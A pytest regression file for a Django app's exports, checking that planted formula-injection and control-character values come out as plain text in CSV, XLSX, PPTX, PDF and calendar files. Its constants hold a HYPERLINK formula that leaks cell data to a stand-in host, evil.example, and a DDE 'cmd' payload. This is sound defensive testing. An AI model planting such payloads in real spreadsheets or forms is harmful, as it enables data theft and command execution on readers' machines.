"""F7 and F12 end to end: hostile text stored in the demo reaches every export as harmless text.

The review's reproductions, on the demo: leaders named ``=HYPERLINK(…)`` and ``=cmd|…``, roadmap
and usage-map fields starting with ``=``, a business-case input label holding a formula, a
name and a public-questionnaire free-text answer holding control characters (stored as they
were before forms cleaned their input). Every XLSX and CSV export is then opened as a reader
would: no formula cell comes from user data (the business case keeps its own formulas), the
hostile text is there as text, and every report format is generated.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.db import transaction
from django.test import Client

from portevoix.assessments.models import Campaign, Response
from portevoix.business_case.models import BusinessCase
from portevoix.core.cells import PLAIN_NUMBER
from portevoix.objections.tasks import detect_demo
from portevoix.reports.services import report_generate
from portevoix.roadmap.models import Action, Milestone, Risk
from portevoix.tenancy.models import Organisation, Person
from portevoix.usage.models import UsageEntry
from portevoix.web.demo import demo_populate

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Jean-Marc Bertin")'
DDE = "=cmd|' /C calc'!A0"
LABEL = '=HYPERLINK("http://evil.example/?"&B2,"Commerciaux")'
FREE_TEXT = "Je n'ai pas le temps\x01, montrez-moi les chiffres\x0b …"
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
MARKERS = ("evil.example", "cmd|")


@pytest.fixture(scope="module")
def hostile_demo(django_db_setup: None, django_db_blocker: Any) -> Iterator[dict[str, int]]:
    """The demo with the review's hostile values, built once for the module inside a transaction
    that is rolled back at the end (each test runs in a savepoint of it)."""
    with django_db_blocker.unblock(), transaction.atomic():
        demo_populate()
        organisation = Organisation.objects.get(slug="demo")
        people = {p.full_name: p for p in Person.objects.filter(organisation=organisation)}
        Person.objects.filter(pk=people["Jean-Marc Bertin"].pk).update(full_name=HYPERLINK)
        Person.objects.filter(pk=people["Isabelle Kerjean"].pk).update(full_name=DDE)
        Person.objects.filter(pk=people["Nathalie Roux"].pk).update(full_name="Nathalie\x01Roux")
        action = Action.objects.filter(roadmap__organisation=organisation).order_by("pk").first()
        assert action is not None
        Action.objects.filter(pk=action.pk).update(kpi_label=DDE, title="Lancer\x01 le programme")
        Milestone.objects.filter(
            pk=Milestone.objects.filter(roadmap__organisation=organisation).first().pk
        ).update(title=DDE)
        risk = Risk.objects.filter(roadmap__organisation=organisation).first()
        if risk is None:
            Risk.objects.create(roadmap=action.roadmap, title=HYPERLINK, likelihood=2, impact=2)
        else:
            Risk.objects.filter(pk=risk.pk).update(title=HYPERLINK)
        UsageEntry.objects.filter(organisation=organisation, network="linkedin").update(owner=DDE)
        case = BusinessCase.objects.filter(organisation=organisation).first()
        assert case is not None
        definition = dict(case.definition)
        definition["inputs"] = [dict(item) for item in definition["inputs"]]
        definition["inputs"][0]["label"] = {"fr": LABEL, "en": LABEL}
        definition["inputs"][1]["label"] = {"fr": "Opportunités\x01", "en": "Opportunities\x01"}
        BusinessCase.objects.filter(pk=case.pk).update(definition=definition)
        leader = people["Hervé Le Goff"]
        response = Response.objects.get(subject=leader, kind="self")
        framework = response.campaign.framework_version.framework
        free = [q.id for d in framework.dimensions for q in d.questions if q.type == "free_text"]
        answers = {**response.answers, **{qid: FREE_TEXT for qid in free if qid in response.answers}}
        assert set(free) & set(answers)
        Response.objects.filter(pk=response.pk).update(answers=answers)
        detect_demo.call(organisation.pk)  # the objections read the free text again
        yield {
            "organisation": organisation.pk,
            "campaign": Campaign.objects.get(organisation=organisation).pk,
            "case": case.pk,
            "leader": leader.pk,
        }
        transaction.set_rollback(True)


def _client() -> Client:
    client = Client()
    # Logged in without the password: the tests' fast hasher cannot check the demo's hashes.
    client.force_login(get_user_model().objects.get(email="claire.dubois@mecanique-armor.example"))
    return client


def _get(url: str) -> bytes:
    response = _client().get(url)
    assert response.status_code == 200, url
    return response.content


def _report(kind: str, fmt: str, ids: dict[str, int]) -> bytes:
    organisation = Organisation.objects.get(pk=ids["organisation"])
    person = Person.objects.get(pk=ids["leader"]) if kind == "leader" else None
    data, _document = report_generate(
        organisation=organisation, kind=kind, fmt=fmt, language="fr", person=person
    )
    return data


EXPORTS: dict[str, Callable[[dict[str, int]], bytes]] = {
    "results.csv": lambda ids: _get(f"/o/demo/diagnostic/{ids['campaign']}/export/?format=csv"),
    "results.xlsx": lambda ids: _get(f"/o/demo/diagnostic/{ids['campaign']}/export/?format=xlsx"),
    "roadmap.xlsx": lambda ids: _get("/o/demo/roadmap/export/xlsx/"),
    "business-case.xlsx": lambda ids: _get(f"/o/demo/business-case/{ids['case']}/export.xlsx"),
    "board.xlsx": lambda ids: _report("board", "xlsx", ids),
    "progress.xlsx": lambda ids: _report("progress", "xlsx", ids),
    "leader.xlsx": lambda ids: _report("leader", "xlsx", ids),
}
# What of the hostile data each export shows (the leader report names no colleague).
SHOWN = {"leader.xlsx": ("montrez-moi les chiffres",)}
# The formulas the product writes itself: only in the business case's workbook.
PRODUCT_FORMULAS = {"business-case.xlsx"}


def _spreadsheet_cells(name: str, data: bytes) -> list[tuple[str, str, Any]]:
    """(where, type, value) of every non-empty cell: ``f`` for a formula cell."""
    if name.endswith(".csv"):
        text = data.decode("utf-8-sig")
        rows = csv.reader(io.StringIO(text), delimiter=";")
        return [
            (f"{n}:{c}", "s", value)
            for n, row in enumerate(rows, 1)
            for c, value in enumerate(row, 1)
            if value
        ]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [
        (f"{sheet.title}!{cell.coordinate}", str(cell.data_type), cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(EXPORTS))
def test_no_spreadsheet_export_holds_a_formula_or_a_control_character_from_user_data(
    hostile_demo: dict[str, int], name: str
) -> None:
    cells = _spreadsheet_cells(name, EXPORTS[name](hostile_demo))
    formulas = [(where, value) for where, kind, value in cells if kind == "f"]
    if name in PRODUCT_FORMULAS:
        assert formulas, "the business case's own formulas must stay formulas"
        assert [f for f in formulas if any(marker in str(f[1]) for marker in MARKERS)] == []
    else:
        assert formulas == []
    texts = [(where, value) for where, _kind, value in cells if isinstance(value, str)]
    assert [t for t in texts if CONTROLS.search(t[1])] == []
    shown = SHOWN.get(name, MARKERS)
    hostile = [(where, value) for where, value in texts if any(marker in value for marker in shown)]
    assert hostile, f"{name}: the hostile values were expected in this export"
    if name.endswith(".csv"):
        # What a spreadsheet would run starts with = + - @ TAB or CR: each has its apostrophe.
        starts = [(w, v) for w, v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert [(w, v) for w, v in starts if not PLAIN_NUMBER.fullmatch(v)] == []
        assert any(value == "'" + HYPERLINK for _where, value in hostile)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "fmt"), [("board", "pptx"), ("board", "pdf"), ("leader", "pptx"), ("leader", "pdf")]
)
def test_every_report_format_is_generated_despite_control_characters(
    hostile_demo: dict[str, int], kind: str, fmt: str, tmp_path: Path
) -> None:
    data = _report(kind, fmt, hostile_demo)
    if fmt == "pptx":
        from pptx import Presentation

        deck = Presentation(io.BytesIO(data))
        texts = [
            shape.text_frame.text for slide in deck.slides for shape in slide.shapes if shape.has_text_frame
        ]
        assert texts
        assert [t for t in texts if CONTROLS.search(t)] == []
        assert not any("_x0001_" in t for t in texts)
    else:
        assert data.startswith(b"%PDF")
        if shutil.which("pdftotext"):
            path = tmp_path / "report.pdf"
            path.write_bytes(data)
            text = subprocess.run(
                ["pdftotext", str(path), "-"], check=True, capture_output=True, text=True
            ).stdout
            if kind == "board":
                assert "NathalieRoux" in text or "Nathalie Roux" not in text


@pytest.mark.django_db
def test_the_roadmap_calendar_has_no_control_character(hostile_demo: dict[str, int]) -> None:
    text = _get("/o/demo/roadmap/export/ics/").decode()
    assert "Lancer le programme" in text.replace("\r\n ", "")
    assert CONTROLS.search(text.replace("\r\n", "")) is None
